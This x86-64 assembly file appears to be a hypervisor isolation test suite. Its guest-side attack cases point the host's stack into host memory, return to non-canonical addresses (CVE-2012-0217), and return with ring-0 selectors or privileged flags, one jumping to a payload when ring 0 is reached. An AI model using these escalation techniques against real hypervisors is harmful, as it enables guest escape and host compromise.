/*
 * Where the stack is when something happens, and where one returns to. A host that pushes with its own rights on a
 * stack that a guest has named, or returns to an address that it has not looked at, works for the guest.
 */

/* %rbx: the address that variant %rax says. */
#define PLACES          16
host_place:
        leaq    1f(%rip), %rcx
        movzbl  (%rcx, %rax), %edx
        cmpl    $10, %eax
        jae     2f
        movq    PARAMS(%rdx), %rbx
        cmpl    $8, %eax
        je      3f
        addq    $0x800, %rbx
        ret
3:      addq    $0x1000, %rbx           /* behind the state page: where the host itself begins to push */
        ret
2:      leaq    4f(%rip), %rcx
        movq    -80(%rcx, %rax, 8), %rbx
        ret
1:      .byte   AP_TEXT, AP_GDT, AP_IDT, AP_TSS, AP_PDA, AP_IST, AP_DESCRIPTOR, AP_STATE, AP_STATE, AP_SECRET_VA
        .byte   0, 0, 0, 0, 0, 0
        .balign 8
4:      .quad   0x800000000000, 0xffff7ffffffffff8, 0xffffff0000000000, 0, -1, 0xffffff8000000000

/* %rax: the place, %rdx: what is done, of %ecx possible ones. */
split:  movq    PARAMS + AP_VARIANT, %rax
        xorl    %edx, %edx
        divl    %ecx
        ret

/* The stack for events from a process lies in the host's memory; then there is an event. */
ATTACK  set_stack_host
        movl    $2, %ecx
        call    split
        movl    %edx, %r8d
        call    host_place
        HCALL   LHCALL_SET_STACK, %rbx
        GO_USER 1f
1:      testl   %r8d, %r8d
        jnz     2f
        TRY     ud2
        EXIT
2:      movl    $1, %eax
        syscall
        EXIT

/* The kernel's %rsp itself lies there: trap, system call, push, return, and the frame of a hypercall read from it. */
#define KERNEL_DEEDS    7
ATTACK  rsp_host
        movl    $KERNEL_DEEDS, %ecx
        call    split
        movl    %edx, %r8d
        call    host_place
        call    deeds
        END
deeds:  TRYING
        movq    %rbx, %rsp
        cmpl    $1, %r8d
        jb      1f
        je      2f
        cmpl    $3, %r8d
        jb      3f
        je      4f
        cmpl    $5, %r8d
        jb      5f
        je      6f
        jmp     go_back
1:      int3
        jmp     9f
2:      ud2
3:      syscall
        jmp     9f
4:      pushq   $MARK
        jmp     9f
5:      iretq
6:      movq    $MARK, -8(%rsp)
        DONE
        ret

ATTACK  user_rsp_host
        movl    $6, %ecx
        call    split
        movl    %edx, %r8d
        call    host_place
        movl    $USER(1f), %ecx
        pushq   $0
        pushq   $USER_STACK_TOP
        pushq   $0x202
        movl    user_cs(%rip), %eax
        pushq   %rax
        pushq   %rcx
        pushq   $0
        pushq   $0
        pushq   $0
        jmp     go_back
1:      movl    $1, %eax
        call    deeds
        EXIT

/*
 * Returns to addresses that are none. On some processors SYSRET and IRET fault at ring 0 on the way to them, with the
 * guest's stack pointer already loaded (CVE-2012-0217). The last variants get there by a system call whose return
 * address is not canonical.
 */
ATTACK  noncanonical_return
        movq    PARAMS + AP_VARIANT, %rax
        cmpl    $6, %eax
        jae     3f
        movl    %cs, %edx
        testl   $1, %eax
        jz      1f
        movl    user_cs(%rip), %edx
1:      shrl    $1, %eax
        leaq    2f(%rip), %rcx
        movq    (%rcx, %rax, 8), %rbx
        leaq    8f(%rip), %r15
        movl    %esp, %r14d
        movq    %rsp, %r14
        pushq   $0
        pushq   %r14
        pushq   $0x202
        pushq   %rdx
        pushq   %rbx
        pushq   $0
        pushq   $0
        pushq   $0
        jmp     go_back
2:      .quad   0x800000000000, 0xffff7fffffffffff, 0x8000000000000000
8:      END
/* The last page below the hole, for the process: SYSCALL, INT3 or nothing in its last bytes. */
3:      MAP_LAST_PAGE 255
        movl    $0x050f, %eax           /* SYSCALL */
        movq    PARAMS + AP_VARIANT, %rcx
        cmpl    $7, %ecx
        jb      4f
        movl    $0xcc90, %eax           /* NOP, INT3 */
        je      4f
        movl    $0x9090, %eax
4:      movw    %ax, VIRT(PAGES_PA + 0xffe)
        GO_USER 5f
5:      movq    $0x7ffffffffffe, %rbx
        movl    $1, %eax
        TRY     jmp *%rbx
        EXIT

/*
 * Returns by the hypercall to whatever selector there is: ring 0's, data, the TSS, none; and by IRETQ itself. Where it
 * goes on, it looks at which ring that is.
 */
ATTACK  iret_selectors
        movq    PARAMS + AP_VARIANT, %rbx
        cmpl    $0x80, %ebx
        jb      1f
        shlq    $25, %rbx               /* the upper half of the word */
        orq     $3, %rbx
1:      movl    %ss, %ecx
        TRYING
        andl    $~7, %ecx
        pushq   %rcx
        pushq   %r14
        pushq   $0x202
        pushq   %rbx
        pushq   $USER(3f)
        iretq
        DONE
        pushq   $0
        pushq   $USER_STACK_TOP
        pushq   $0x202
        pushq   %rbx
        pushq   $USER(2f)
        pushq   $0
        pushq   $0
        pushq   $0
        jmp     go_back
/* Reached by IRETQ: back to the kernel's stack with an exception, unless this is ring 0. */
3:      movl    %cs, %eax
        testl   $3, %eax
        jz      iret_payload
        ud2
2:      movl    %cs, %eax
        testl   $3, %eax
        jz      iret_payload
        EXIT
        PAYLOAD iret_payload

/*
 * Returns with flags that only ring 0 may set: IOPL, which would open all ports, interrupts off, which would keep the
 * processor for ever, NT, VM, RF, AC and the virtual ones; and POPF with the same.
 */
ATTACK  iret_flags
        movq    PARAMS + AP_VARIANT, %rax
        leaq    1f(%rip), %rcx
        movl    (%rcx, %rax, 4), %ebx
        TRYING
        pushq   %rbx
        popfq
        pushfq
        popq    %rdx
        REPORT  R_FLAGS, $0, %rdx
        DONE
        pushq   $2
        popfq
        pushq   $0
        pushq   $USER_STACK_TOP
        pushq   %rbx
        movl    user_cs(%rip), %eax
        pushq   %rax
        pushq   $USER(2f)
        pushq   $0
        pushq   $0
        pushq   $0
        jmp     go_back
        .balign 4
1:      .long   0x3202, 0x2, 0x4202, 0x20202, 0x10202, 0x180202, 0x240202, 0x3202 | 0x20000, 0x7fd7, 0x3ffeff
2:      leaq    4f(%rip), %r15
        movq    %rsp, %r14
        pushfq
        popq    %rdx
        REPORT  R_FLAGS, $1, %rdx
4:      TRYING
        pushq   %rbx
        popfq
        pushfq
        popq    %rdx
        REPORT  R_FLAGS, $2, %rdx
        DONE
        TRYING
        movl    $0x80, %edx
        inb     %dx, %al
        REPORT  R_THROUGH, $1, %rax
        DONE
        EXIT
